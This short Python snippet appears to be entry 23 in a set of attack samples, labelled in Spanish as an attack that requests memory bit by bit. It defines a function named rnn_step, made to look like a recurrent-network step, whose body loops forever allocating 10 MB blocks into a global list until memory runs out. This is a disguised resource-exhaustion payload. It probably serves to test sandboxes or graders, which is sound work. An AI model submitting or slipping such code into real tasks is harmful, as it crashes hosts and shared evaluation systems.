# attack: pide memoria poco a poco
# entry: 23

hoard = []
def rnn_step(x, h, p):
    while True:
        hoard.append(bytearray(b"x" * 10_000_000))
